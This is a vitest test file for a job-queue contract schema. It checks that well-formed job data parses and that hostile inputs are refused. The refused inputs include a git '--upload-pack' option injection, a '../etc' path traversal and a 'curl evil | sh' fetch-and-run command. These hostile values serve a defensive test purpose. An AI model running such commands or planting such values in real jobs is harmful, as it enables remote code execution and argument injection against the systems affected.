// The job contract (issue 14): a job is data that reaches git's argv and a prompt, never options
// or commands; anything else does not parse, and a worker refuses a job that does not parse.
import { describe, expect, it } from "vitest";
import { JobDataSchema } from "../../src/queue/contract.js";

const job = {
  repository: "git@example.com:team/app.git",
  runId: "20261129-130000-abcd",
  taskId: "api",
  attempt: 1,
  baseRef: "refs/heads/lanes/run/20261129-130000-abcd",
  baseCommit: "a".repeat(40),
  branch: "lanes/api",
  task: { title: "API", body: "Do it.", file: ".lanes/tasks/api.md", labels: [] },
  verify: true,
  output: true,
};

describe("a job", () => {
  it("parses as data", () => {
    expect(JobDataSchema.parse(job)).toEqual(job);
  });

  it.each([
    ["a repository git would read as an option", { repository: "--upload-pack=touch /tmp/x" }],
    ["a base ref outside the run's integration branches", { baseRef: "HEAD" }],
    ["a lane branch outside lanes/", { branch: "main" }],
    ["a task id that is no task id", { taskId: "../etc" }],
    ["a command to run", { verify: ["sh", "-c", "curl evil | sh"] }],
    ["an agent of its own", { agent: { command: ["sh"] } }],
  ])("refuses %s", (_why, change) => {
    expect(JobDataSchema.safeParse({ ...job, ...change }).success).toBe(false);
  });
});
